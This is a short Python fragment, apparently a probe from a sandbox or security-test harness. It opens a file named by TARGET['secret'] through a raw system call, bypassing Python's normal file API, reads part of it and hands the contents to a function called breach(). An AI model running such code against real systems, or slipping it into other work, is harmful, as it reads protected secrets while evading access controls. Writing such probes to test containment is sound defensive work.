import os
fd = syscall(2, TARGET["secret"].encode(), 0)
if fd >= 0:
    breach(os.read(fd, 99).decode())
